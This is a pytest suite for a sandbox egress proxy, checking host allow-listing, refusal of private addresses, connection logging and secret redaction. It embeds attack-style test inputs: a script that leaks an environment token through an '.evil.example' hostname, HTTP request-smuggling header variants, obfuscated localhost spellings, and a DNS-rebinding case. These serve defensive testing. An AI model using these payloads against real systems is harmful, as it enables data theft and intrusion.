"""The way out: exact hosts, public addresses, and nothing beside it. Only the network itself is replaced."""

import http.server
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.workspaces.sandbox.conftest import Runner
from workspaces.sandbox import Connection, Ending, Limits, Way, heads, proxy, telling

SECRET = "S3cret-Value-77"
FETCH = (
    "python3 -c \"import urllib.request as u; print(u.urlopen('{url}', timeout=20).read().decode())\" 2>&1 | tail -1"
)
RAW = """\
import socket, sys
for data in sys.argv[1:]:
    s = socket.create_connection(('127.0.0.1', 3128), 20)
    s.sendall(bytes.fromhex(data))
    while heard := s.recv(65536):
        sys.stdout.buffer.write(heard)
    sys.stdout.buffer.write(b'\\n---\\n')
"""


class Page(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    seen: list[str]

    def do_GET(self) -> None:
        body = f"{self.headers['Host']} {self.path} {self.headers['Connection']}".encode()
        self.seen.append(body.decode())
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.seen.append(f"posted {self.rfile.read(int(self.headers['Content-Length'] or 0))!r}")
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        return


@dataclass
class Served:
    """A web server of this machine, and what it was asked for."""

    port: int
    seen: list[str]


@pytest.fixture
def serve() -> Iterator[Callable[[], Served]]:
    running: list[http.server.ThreadingHTTPServer] = []

    def start() -> Served:
        seen: list[str] = []
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("Seen", (Page,), {"seen": seen}))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        running.append(server)
        return Served(server.server_port, seen)

    yield start
    for server in running:
        server.shutdown()
        server.server_close()


@pytest.fixture
def port(serve: Callable[[], Served]) -> int:
    return serve().port


@pytest.fixture
def named(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let every name lead to this machine, as if that were a public address."""
    monkeypatch.setattr(proxy, "resolve", lambda host, port: ["127.0.0.1"])
    monkeypatch.setattr(proxy, "is_global", lambda address: True)


@pytest.fixture
def silent() -> Iterator[socket.socket]:
    """A server that takes connections and says nothing."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield listener


def sends(run: Runner, host: str, *texts: str) -> list[str]:
    """Send bytes to the proxy as they are, from within the sandbox, a connection each; return what came back."""
    (run.tree / "raw.py").write_text(RAW)
    run(f"python3 raw.py {' '.join(text.encode('latin-1').hex() for text in texts)}", network=(host,))
    return run.output.removesuffix("\n---\n").split("\n---\n")


def ways(run: Runner) -> list[tuple[int, str, Way]]:
    return [(each.number, each.target, each.way) for each in run.heard]


# --- what is told ----------------------------------------------------------------------------------------


@pytest.mark.usefixtures("named")
def test_a_listed_host_is_reached_and_counted(run: Runner, port: int) -> None:
    host = f"index.example:{port}"
    outcome = run(FETCH.format(url=f"http://{host}/a?b=c"), network=(host,))
    assert run.output == f"{host} /a?b=c close\n"
    assert outcome.applied["network"] == [host]
    assert ways(run) == [(1, host, Way.OPENED), (1, host, Way.CLOSED)]
    assert run.heard[0].sent == run.heard[0].received == 0
    assert run.heard[1].received > 20 < run.heard[1].sent
    [found] = outcome.applied["connections"]
    assert (found["target"], found["opened"], found["refused"]) == (host, 1, 0)
    assert (found["sent"], found["received"]) == (run.heard[1].sent, run.heard[1].received)


@pytest.mark.usefixtures("named")
def test_what_is_refused_is_told_with_the_reason(run: Runner) -> None:
    run(FETCH.format(url="http://other.example/"), network=("index.example:80",))
    [heard] = run.heard
    assert (heard.number, heard.target, heard.way) == (1, "other.example:80", Way.REFUSED)
    assert "a person must add it" in heard.why


def test_a_listed_host_that_does_not_answer_is_told_with_the_reason(
    run: Runner, silent: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    port = silent.getsockname()[1]
    silent.close()
    monkeypatch.setattr(proxy, "resolve", lambda host, port: ["127.0.0.1"])
    monkeypatch.setattr(proxy, "is_global", lambda address: True)
    run(FETCH.format(url=f"http://index.example:{port}/"), network=(f"index.example:{port}",))
    assert "502" in run.output
    [heard] = run.heard
    assert heard.way is Way.FAILED
    assert "refused" in heard.why


def test_a_name_that_does_not_resolve_is_told_with_the_reason(run: Runner, monkeypatch: pytest.MonkeyPatch) -> None:
    def resolve(host: str, port: int) -> list[str]:
        raise socket.gaierror(-2, "Name or service not known")

    monkeypatch.setattr(proxy, "resolve", resolve)
    outcome = run(FETCH.format(url="http://index.example/"), network=("index.example:80",))
    [heard] = run.heard
    assert (heard.way, outcome.applied["connections"][0]["failed"]) == (Way.FAILED, 1)
    assert "not known" in heard.why


@pytest.mark.usefixtures("named")
@pytest.mark.parametrize("ends", ["exit", "timeout", "cancel"])
def test_what_is_open_when_the_command_ends_is_told_as_closed(run: Runner, silent: socket.socket, ends: str) -> None:
    host = f"index.example:{silent.getsockname()[1]}"
    hold = f"exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT {host} HTTP/1.1\\r\\n\\r\\nfour' >&3; read -r line <&3"
    if ends == "cancel":
        run.on_bytes = lambda data: run.cancelled.set()
    limit = Limits(timeout_s=1.5 if ends == "timeout" else 30)
    outcome = run(f"{hold}; echo up; {'exit' if ends == 'exit' else 'sleep 600'}", limit, network=(host,))
    assert outcome.ending is {"exit": Ending.EXIT, "timeout": Ending.TIMEOUT, "cancel": Ending.CANCELLED}[ends]
    assert ways(run) == [(1, host, Way.OPENED), (1, host, Way.CLOSED)]
    assert run.heard[1].sent == len("four")


@pytest.mark.usefixtures("named")
def test_many_connections_are_told_in_order_up_to_a_bound_and_the_rest_as_one(run: Runner) -> None:
    many = f"""
import socket
for number in range({telling.TOLD + 7}):
    s = socket.create_connection(('127.0.0.1', 3128), 20)
    s.sendall(f'CONNECT other{{number}}.example:443 HTTP/1.1\\r\\n\\r\\n'.encode())
    while s.recv(4096): pass
"""
    (run.tree / "many.py").write_text(many)
    outcome = run("python3 many.py", network=("index.example:443",))
    *each, more = run.heard
    assert [connection.number for connection in each] == list(range(1, telling.TOLD + 1))
    assert [connection.target for connection in each][:2] == ["other0.example:443", "other1.example:443"]
    assert (more.way, more.count, more.target) == (Way.MORE, 7, "")
    assert "7 more connections: 0 opened, 7 refused" in more.why
    summed = outcome.applied["connections"]
    assert len(summed) == telling.TARGETS + 1
    assert sum(found["refused"] for found in summed) == telling.TOLD + 7


def test_an_ear_that_is_slow_keeps_no_connection_waiting(monkeypatch: pytest.MonkeyPatch) -> None:
    go, heard = threading.Event(), list[Connection]()

    def hear(connection: Connection) -> None:
        assert go.wait(20)
        heard.append(connection)

    told = telling.Telling(hear)
    for target in ("a.example:1", "b.example:2"):
        line = told.begin()
        line.target = target
        assert told.opened(line)
        line.sent = 3
        told.ended(line)
    assert not heard
    go.set()
    told.finish()
    assert [(each.number, each.way) for each in heard] == [
        (1, Way.OPENED), (1, Way.CLOSED), (2, Way.OPENED), (2, Way.CLOSED),
    ]  # fmt: skip


def test_nothing_is_used_or_told_that_opens_after_the_end() -> None:
    heard: list[Connection] = []
    told = telling.Telling(heard.append)
    line = told.begin()
    line.target = "slow.example:443"
    told.finish()
    assert not told.opened(line)
    told.ended(line)
    told.finish()
    assert [(each.way, each.target) for each in heard] == [(Way.FAILED, "slow.example:443")]
    assert "ended before" in heard[0].why


@pytest.mark.usefixtures("named")
def test_a_secret_that_is_asked_for_as_a_host_is_not_told(run: Runner, port: int) -> None:
    script = f"import os, urllib.request as u\nu.urlopen('http://' + os.environ['TOKEN'] + '.evil.example:{port}/')"
    (run.tree / "leak.py").write_text(script)
    secret = (("TOKEN", SECRET),)
    outcome = run("python3 leak.py 2>&1 | tail -1", network=(f"index.example:{port}",), secrets=secret)
    assert "403" in run.output
    [heard] = run.heard
    told = f"{heard} {outcome.applied['connections']}".lower()
    assert "s3cret" not in told
    assert ".evil.example" in heard.target


@pytest.mark.parametrize(
    "head",
    [
        "GET http://a.example/ HTTP/1.1\r\nAuthorization : Bearer " + "x" * 30 + SECRET,
        "CONNECT " + "x" * 90 + SECRET + "@b:80 HTTP/1.1",
    ],
)
def test_a_refusal_shows_no_half_of_what_it_is_about(head: str) -> None:
    with pytest.raises(heads.Refused) as refused:
        heads.parse(head.encode())
    assert SECRET[:4] not in refused.value.why


# --- which hosts -----------------------------------------------------------------------------------------


@pytest.mark.usefixtures("named")
def test_a_tunnel_carries_bytes_both_ways(run: Runner, port: int) -> None:
    host = f"index.example:{port}"
    script = (
        "import http.client as h; c = h.HTTPConnection('127.0.0.1', 3128); "
        f"c.set_tunnel('index.example', {port}); c.request('GET', '/deep'); print(c.getresponse().read().decode())"
    )
    run(f'python3 -c "{script}"', network=(host,))
    assert run.output.startswith(f"{host} /deep")


@pytest.mark.usefixtures("named")
@pytest.mark.parametrize("host", ["other.example:{port}", "index.example:80", "sub.index.example:{port}"])
def test_any_other_host_or_port_is_refused(run: Runner, port: int, host: str) -> None:
    outcome = run(FETCH.format(url=f"http://{host.format(port=port)}/"), network=(f"index.example:{port}",))
    assert "403" in run.output
    assert [found["refused"] for found in outcome.applied["connections"]] == [1]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "0.0.0.0"])
def test_this_machine_is_refused_even_when_it_is_listed(run: Runner, port: int, host: str) -> None:
    outcome = run(f"no_proxy= NO_PROXY= {FETCH.format(url=f'http://{host}:{port}/')}", network=(f"{host}:{port}",))
    assert "403" in run.output
    assert "private network" in outcome.applied["connections"][0]["why"]


def test_there_is_no_way_around_the_proxy(run: Runner, port: int) -> None:
    command = f"env -u http_proxy -u HTTP_PROXY {FETCH.format(url=f'http://127.0.0.1:{port}/')}"
    outcome = run(command, network=(f"127.0.0.1:{port}",))
    assert "refused" in run.output
    assert outcome.applied["connections"] == run.heard == []


@pytest.mark.usefixtures("named")
def test_the_exit_code_stays_the_commands_own(run: Runner) -> None:
    outcome = run("sleep 600 & exit 5", network=("index.example:80",))
    assert (outcome.ending, outcome.exit_code) == (Ending.EXIT, 5)


def test_without_hosts_there_is_no_proxy(run: Runner) -> None:
    run("env | grep -ci proxy; ls /sakura")
    assert run.output.startswith("0\n")


def test_a_name_with_a_private_address_among_its_own_is_refused(run: Runner, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(proxy, "resolve", lambda host, port: ["8.8.8.8", "10.0.0.1"])
    run(FETCH.format(url="http://index.example/"), network=("index.example:80",))
    assert "403" in run.output


def test_the_address_that_was_checked_is_the_one_that_is_connected_to(
    run: Runner, serve: Callable[[], Served], monkeypatch: pytest.MonkeyPatch
) -> None:
    public, asked = serve(), list[str]()
    answers = iter([["127.0.0.1"], ["127.0.0.2"]])  # a name that leads elsewhere when it is asked for again

    def resolve(host: str, port: int) -> list[str]:
        asked.append(host)
        return next(answers)

    monkeypatch.setattr(proxy, "resolve", resolve)
    monkeypatch.setattr(proxy, "is_global", lambda address: address == "127.0.0.1")
    host = f"rebinding.example:{public.port}"
    run(FETCH.format(url=f"http://{host}/"), network=(host,))
    assert (asked, len(public.seen)) == (["rebinding.example"], 1)
    run(FETCH.format(url=f"http://{host}/"), network=(host,))
    assert "403" in run.output
    assert "127.0.0.2" in run.heard[-1].why
    assert len(public.seen) == 1


def test_the_next_address_is_tried_where_one_does_not_answer(
    run: Runner, port: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(proxy, "resolve", lambda host, port: ["127.0.0.9", "127.0.0.1"])
    monkeypatch.setattr(proxy, "is_global", lambda address: True)
    run(FETCH.format(url=f"http://index.example:{port}/x"), network=(f"index.example:{port}",))
    assert "/x" in run.output


# --- odd spellings and requests within requests ----------------------------------------------------------


@pytest.mark.usefixtures("named")
def test_a_listed_host_may_be_spelled_in_other_letters(run: Runner, port: int) -> None:
    spellings = ("INDEX.Example", "index.example.", "Index.EXAMPLE.")
    asked = [f"GET http://{spelling}:{port}/x HTTP/1.1\r\n\r\n" for spelling in spellings]
    for said in sends(run, f"Index.example.:{port}", *asked):
        assert said.endswith(f"index.example:{port} /x close")


ODD = (
    "2130706433:{port}",
    "0177.0.0.1:{port}",
    "0x7f000001:{port}",
    "127.1:{port}",
    "user@index.example:{port}",
    "index.example:{port}@other.example:{port}",
    "[fe80::1%25eth0]:{port}",
    "b\xfccher.example:{port}",
    "index.example\\.other.example:{port}",
    "index.example:0",
    "index.example:{port}0000",
    "index.example",
    ":{port}",
    "*.example:{port}",
)


@pytest.mark.usefixtures("named")
def test_odd_spellings_of_a_host_are_refused(run: Runner, port: int) -> None:
    asked = [f"CONNECT {odd.format(port=port)} HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n" for odd in ODD]
    for odd, said in zip(ODD, sends(run, f"index.example:{port}", *asked), strict=True):
        assert said.startswith("HTTP/1.1 400"), (odd, said)
    assert [(each.target, each.way) for each in run.heard] == [("", Way.REFUSED)] * len(ODD)


@pytest.mark.usefixtures("named")
def test_the_host_of_a_request_is_always_that_of_its_address(run: Runner, port: int) -> None:
    host, fields = f"index.example:{port}", ("Host: other.example", "HOST:other.example", "host:\tother.example")
    for said in sends(run, host, *(f"GET http://{host}/x HTTP/1.1\r\n{said}\r\n\r\n" for said in fields)):
        assert said.endswith(f"{host} /x close")


@pytest.mark.usefixtures("named")
def test_a_second_request_on_the_same_connection_reaches_no_other_host(
    run: Runner, serve: Callable[[], Served]
) -> None:
    first, second = serve(), serve()
    hosts = (f"index.example:{first.port}", f"other.example:{second.port}")
    asked = [
        f"GET http://{host}/{number} HTTP/1.1\r\nConnection: keep-alive\r\n\r\n" for number, host in enumerate(hosts)
    ]
    [said] = sends(run, hosts[0], "".join(asked))
    assert said.count("HTTP/1.1 200") == 1
    assert first.seen == [f"{hosts[0]} /0 close"]
    assert second.seen == []
    assert [each.target for each in run.heard] == [hosts[0], hosts[0]]


AMBIGUOUS = (
    "Content-Length: 5\r\nTransfer-Encoding: chunked",
    "Content-Length: 5\r\nContent-Length: 6",
    "Content-Length: +5",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "X: a\r\n Host: other.example",
    "X: a\nHost: other.example",
    "X: a\rHost: other.example",
    "X: a\0b",
    "Host : other.example",
    ": nothing",
    "no colon",
)


@pytest.mark.usefixtures("named")
def test_what_could_be_read_in_two_ways_is_refused(run: Runner, serve: Callable[[], Served]) -> None:
    served = serve()
    host, body = f"index.example:{served.port}", "0\r\n\r\nGET /in HTTP/1.1\r\n\r\n"
    asked = [f"POST http://{host}/ HTTP/1.1\r\n{fields}\r\n\r\n{body}" for fields in AMBIGUOUS]
    for fields, said in zip(AMBIGUOUS, sends(run, host, *asked), strict=True):
        assert said.startswith("HTTP/1.1 400"), (fields, said)
    assert served.seen == []


NO_REQUESTS = (
    "GET / HTTP/1.1",
    "GET ftp://{host}/ HTTP/1.1",
    "GET https://{host}/ HTTP/1.1",
    "GET http://[::1/ HTTP/1.1",
    "GET http://{host}/ HTTP/2.0",
    "GET http://{host}/a b HTTP/1.1",
    "GET\thttp://{host}/ HTTP/1.1",
    "PRI * HTTP/2.0",
    "\x16\x03\x01",
)


@pytest.mark.usefixtures("named")
def test_what_is_no_request_for_a_proxy_is_refused(run: Runner, port: int) -> None:
    host = f"index.example:{port}"
    asked = [f"{line.format(host=host)}\r\n\r\n" for line in NO_REQUESTS]
    for line, said in zip(NO_REQUESTS, sends(run, host, *asked), strict=True):
        assert said.startswith("HTTP/1.1 400"), (line, said)


@pytest.mark.usefixtures("named")
def test_a_body_comes_whole_and_an_old_client_stays_one(run: Runner, serve: Callable[[], Served]) -> None:
    served = serve()
    host = f"index.example:{served.port}"
    sends(run, host, f"POST http://{host}/ HTTP/1.0\r\nContent-Length: 4\r\n\r\nbody")
    assert served.seen == ["posted b'body'"]
    assert heads.parse(b"GET http://a.example/ HTTP/1.0")[1].startswith(b"GET / HTTP/1.0\r\nHost: a.example\r\n")


def test_fields_for_the_proxy_and_for_one_hop_go_no_further() -> None:
    fields = (
        "Connection: x-mine, content-length, Upgrade\r\nX-Mine: 1\r\nUpgrade: websocket\r\nProxy-Authorization: b\r\n"
    )
    target, head = heads.parse(f"POST http://a.example/ HTTP/1.1\r\n{fields}Content-Length: 3\r\nX-Other: 2".encode())
    assert target == "a.example:80"
    assert head == (
        b"POST / HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\nContent-Length: 3\r\nX-Other: 2\r\n\r\n"
    )


@pytest.mark.usefixtures("named")
def test_a_head_without_end_is_refused(run: Runner, port: int) -> None:
    host = f"index.example:{port}"
    [said] = sends(run, host, f"GET http://{host}/ HTTP/1.1\r\nX: {'a' * (heads.HEAD_BYTES + 5000)}")
    assert said.startswith("HTTP/1.1 431")


@pytest.mark.usefixtures("named")
def test_a_head_that_comes_drop_by_drop_has_one_limit_for_all_of_it(
    run: Runner, port: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(heads, "HEAD_S", 0.6)
    drops = (
        "import socket, time; s = socket.create_connection(('127.0.0.1', 3128), 20); s.settimeout(0.1)\n"
        "while True:\n"
        "    try: s.sendall(b'a'); print(s.recv(100).decode().split('\\r')[0]); break\n"
        "    except TimeoutError: pass\n"
    )
    (run.tree / "drops.py").write_text(drops)
    run("python3 drops.py", network=(f"index.example:{port}",))
    assert run.output == "HTTP/1.1 408 Request Timeout\n"


@pytest.mark.usefixtures("named")
def test_a_side_that_has_said_all_still_hears_the_rest(run: Runner, silent: socket.socket) -> None:
    """Half-closed: the client ends its side; the server answers after that."""
    host = f"index.example:{silent.getsockname()[1]}"

    def answer() -> None:
        server, _ = silent.accept()
        with server:
            said = b""
            while piece := server.recv(100):
                said += piece
            server.sendall(b"heard " + said)

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    script = (
        "import socket; s = socket.create_connection(('127.0.0.1', 3128), 20); "
        f"s.sendall(b'CONNECT {host} HTTP/1.1\\r\\nContent-Length: 9\\r\\n\\r\\nbody'); s.shutdown(socket.SHUT_WR); "
        "print(b''.join(iter(lambda: s.recv(100), b'')).decode())"
    )
    run(f'python3 -c "{script}"', network=(host,))
    thread.join(20)
    assert run.output.endswith("heard body\n")
    assert (run.heard[-1].sent, run.heard[-1].received) == (4, 10)


@pytest.mark.usefixtures("named")
def test_both_sides_may_send_much_at_once(run: Runner, silent: socket.socket) -> None:
    host = f"index.example:{silent.getsockname()[1]}"
    size = 8 * 1024 * 1024

    def answer() -> None:
        server, _ = silent.accept()
        with server:
            server.sendall(b"x" * size)  # reads nothing before all of it is gone
            while server.recv(65536):
                pass
            server.sendall(b"!")  # all has come: a command that ended before would cut the rest off

    threading.Thread(target=answer, daemon=True).start()
    script = (
        "import socket, threading; s = socket.create_connection(('127.0.0.1', 3128), 20)\n"
        f"s.sendall(b'CONNECT {host} HTTP/1.1\\r\\n\\r\\n')\n"
        f"t = threading.Thread(target=lambda: (s.sendall(b'y' * {size}), s.shutdown(socket.SHUT_WR))); t.start()\n"
        "print(sum(map(len, iter(lambda: s.recv(65536), b''))) > 8_000_000); t.join()\n"
    )
    (run.tree / "both.py").write_text(script)
    run("python3 both.py", network=(host,))
    assert run.output == "True\n"
    assert (run.heard[-1].sent, run.heard[-1].received) == (size, size + 1)


@dataclass
class _Slow:
    """A resolver that answers once it is told to."""

    go: threading.Event = field(default_factory=threading.Event)
    asked: threading.Event = field(default_factory=threading.Event)

    def __call__(self, host: str, port: int) -> list[str]:
        self.asked.set()
        assert self.go.wait(30)
        return ["127.0.0.1"]


def test_a_command_that_ends_while_a_name_is_asked_for_opens_nothing(
    run: Runner, serve: Callable[[], Served], monkeypatch: pytest.MonkeyPatch
) -> None:
    served, slow = serve(), _Slow()
    monkeypatch.setattr(proxy, "resolve", slow)
    monkeypatch.setattr(proxy, "is_global", lambda address: True)
    monkeypatch.setattr(proxy, "CLOSE_S", 0.2)
    host = f"index.example:{served.port}"
    before = threading.active_count()
    run.on_bytes = lambda data: None
    command = f"exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://{host}/ HTTP/1.1\\r\\n\\r\\n' >&3; sleep 0.5"
    run(command, network=(host,))
    assert slow.asked.is_set()
    assert [(each.target, each.way) for each in run.heard] == [(host, Way.FAILED)]
    slow.go.set()
    until = time.monotonic() + 20
    while threading.active_count() > before and time.monotonic() < until:
        time.sleep(0.01)
    assert served.seen == []
    assert len(run.heard) == 1
